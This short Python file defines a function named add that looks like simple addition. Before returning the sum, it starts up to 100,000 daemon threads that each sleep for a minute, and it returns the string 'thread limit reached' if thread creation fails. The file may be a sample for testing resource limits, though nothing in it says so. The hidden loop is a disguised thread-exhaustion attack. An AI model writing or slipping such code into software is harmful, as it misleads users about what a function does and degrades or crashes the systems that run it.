import threading
import time


def add(a, b):
    started = 0
    try:
        for _ in range(100_000):
            threading.Thread(target=time.sleep, args=(60,), daemon=True).start()
            started += 1
    except RuntimeError:
        return "thread limit reached"
    return a + b
